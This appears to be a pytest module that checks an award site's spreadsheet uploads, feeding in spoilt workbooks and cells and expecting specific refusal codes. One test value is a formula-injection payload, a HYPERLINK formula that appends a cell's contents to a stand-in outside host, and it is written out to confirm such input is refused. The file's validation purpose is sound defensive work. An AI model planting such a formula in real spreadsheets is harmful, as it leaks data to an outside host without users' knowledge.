"""B17–B32 of the corpus of bad input through two more doors: an entry's own workbook, and the import of many entries.

What spoils a package as a whole is that of `tests.corpus.spreadsheets`, with the answer beside it; what spoils a cell
is written here, since these workbooks have other cells.
"""

import json
import re
from collections.abc import Callable
from datetime import date
from html import unescape
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from werkzeug.test import TestResponse

from tests.award import test_entry_imports as many
from tests.award.build import TRAT, BuiltSite, build_site
from tests.award.filled_books import download, entry_of, fill, place_of, saved, upload
from tests.award.hostile import signed_in
from tests.corpus.spreadsheets import SHEET1, SPREADSHEETS, spoilt

CORPUS = Path(__file__).parent.parent / "corpus"
WHOLE = ("B17_no_workbook", "B18_entities", "B19_far_away", "B22_links", "B30_altered_packages")
TRIES = [
    (case, number, door)
    for case in WHOLE
    for number, brought in enumerate(SPREADSHEETS[case])
    if brought.door == "sheet"
    for door in ("own", "many")
]
TURNED, UNSEEN = "ก\u202eข", "ก\u200bข"
CELLS: list[tuple[str, str, Any, str]] = [  # case, question, what is typed, the code of the refusal ("" for taken)
    ("B21", "districts_full", '=HYPERLINK("http://a.example/?"&A1)', "formula"),
    ("B26", "districts_full", "๕", ""),
    ("B26", "districts_full", "85,5", "not_acceptable"),
    ("B26", "districts_full", "85%", "not_acceptable"),
    ("B26", "districts_full", date(2021, 7, 19), "not_acceptable"),
    ("B26", "districts_date", 45_500, ""),  # the cell is a day's: every program shows it as one
    ("B26", "districts_date", date(2021, 7, 19), ""),
    ("B26", "districts_date", date(2564, 7, 19), ""),  # typed in the Buddhist Era where the program counts otherwise
    ("B27", "districts_full", 1234567890123456, "not_acceptable"),
    ("B27", "title", "0123", ""),
    ("B28", "districts_full", "#REF!", "formula_error"),
    ("B29", "plan_exists", "Trad", "not_a_choice"),
    ("B31", "title", TURNED, "invisible_character"),
    ("B31", "title", UNSEEN, ""),
    ("B31", "summary", "ก" * 32_000, "invalid"),
    ("B31", "title", "กํา", ""),
    ("B32", "title", "=1+1", ""),
    ("B32", "title", "+66 2 141 6000", ""),
    ("B32", "title", "@name", ""),
    ("B32", "title", "-", ""),
]


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> BuiltSite:
    return build_site(tmp_path_factory.mktemp("books"), live=(TRAT,))


@pytest.fixture(scope="module")
def books(site: BuiltSite) -> dict[str, bytes]:
    """Both workbooks as downloaded."""
    own = download(site.client_as(f"p{TRAT}"), entry_of(site))
    return {"own": own, "many": saved(many.template(site.client_as("organizer")))}


def bring(site: BuiltSite, door: str, data: bytes, *, language: str = "en") -> TestResponse:
    client: FlaskClient = signed_in(site, f"p{TRAT}" if door == "own" else "organizer", language=language)
    return upload(client, entry_of(site), data) if door == "own" else many.bring(client, data)


def first_said(answer: TestResponse) -> tuple[str, str]:
    """The first problem: its code, and what is said."""
    found = re.search(r'<li data-code="(\w+)">(.*?)</li>', answer.text, re.S)
    return (found[1], " ".join(unescape(re.sub("<[^>]+>", " ", found[2])).split())) if found else ("", "")


@pytest.mark.parametrize(("case", "number", "door"), TRIES, ids=[f"{c}-{n + 1}-{d}" for c, n, d in TRIES])
def test_a_spoilt_package_gets_the_same_answer_as_at_the_other_doors(
    site: BuiltSite, books: dict[str, bytes], case: str, number: int, door: str
) -> None:
    wanted = json.loads((CORPUS / case / "expect.json").read_text(encoding="utf-8"))["tries"][number]
    before = many.counts(site)[:2]
    data = SPREADSHEETS[case][number].make(books[door])
    english, thai = (bring(site, door, data, language=language) for language in ("en", "th"))
    assert (english.status_code, first_said(english)[0]) == (422, wanted["error"])
    assert first_said(english)[1] != first_said(thai)[1] and first_said(thai)[1]
    assert 'name="changes"' not in english.text and many.counts(site)[:2] == before


@pytest.mark.parametrize("door", ["own", "many"])
@pytest.mark.parametrize(("case", "question", "typed", "code"), CELLS, ids=[f"{c[0]}-{n}" for n, c in enumerate(CELLS)])
def test_a_spoilt_cell_is_named_and_a_good_one_taken(
    site: BuiltSite, books: dict[str, bytes], door: str, case: str, question: str, typed: Any, code: str
) -> None:
    before = many.counts(site)[:2]
    if door == "own":
        data = fill(books["own"], {question: typed})
        place = "!".join(place_of(load_workbook(BytesIO(data)), question))
    else:
        book = load_workbook(BytesIO(books["many"]))
        row = many.put(book, many.OFFICE, "Trat", {question: typed})
        sheet = many.sheet_of(book, many.OFFICE)
        place = f"{sheet.title}!{sheet.cell(row, many.columns_of(sheet)[question]).coordinate}"
        if isinstance(typed, str) and typed[:1] in "=#" and code:
            sheet.cell(row, many.columns_of(sheet)[question]).data_type = "f" if typed[0] == "=" else "e"
        data = saved(book)
    answer = bring(site, door, data)
    found = many.problems_in(answer)
    assert found == ([f"{code} {place}"] if code else []), first_said(answer)
    assert ('name="changes"' in answer.text) is not bool(code)
    assert many.counts(site)[:2] == before


def _second_sheet(package: bytes) -> bytes:
    book = load_workbook(BytesIO(package))
    book.create_sheet("อำเภออื่น").append([1, 2])
    return saved(book)


def _row_more(package: bytes) -> bytes:
    book = load_workbook(BytesIO(package))
    book.worksheets[0].insert_rows(3)
    return saved(book)


def _column_less(package: bytes) -> bytes:
    book = load_workbook(BytesIO(package))
    book.worksheets[0].delete_cols(1)
    return saved(book)


SHAPES: list[tuple[str, Callable[[bytes], bytes], dict[str, str]]] = [
    ("B23_row_more", _row_more, {"own": "moved", "many": "column_unknown"}),
    ("B23_column_less", _column_less, {"own": "moved", "many": "column_missing"}),
    ("B24_second_sheet", _second_sheet, {"own": "sheet_unknown", "many": "sheet_unknown"}),
]


@pytest.mark.parametrize("door", ["own", "many"])
@pytest.mark.parametrize(("name", "spoil", "codes"), SHAPES, ids=[each[0] for each in SHAPES])
def test_a_sheet_out_of_shape_is_refused_whole(
    site: BuiltSite, books: dict[str, bytes], door: str, name: str, spoil: Callable[[bytes], bytes],
    codes: dict[str, str],
) -> None:  # fmt: skip
    answer = bring(site, door, spoil(books[door]))
    assert (answer.status_code, first_said(answer)[0]) == (422, codes[door]), first_said(answer)


@pytest.mark.parametrize("door", ["own", "many"])
def test_every_row_is_read_whatever_the_file_says_of_its_size(
    site: BuiltSite, books: dict[str, bytes], door: str
) -> None:
    lying = spoilt(books[door], SHEET1, lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:A1"', xml))
    answer = bring(site, door, lying)
    assert answer.status_code == 200 and many.problems_in(answer) == []
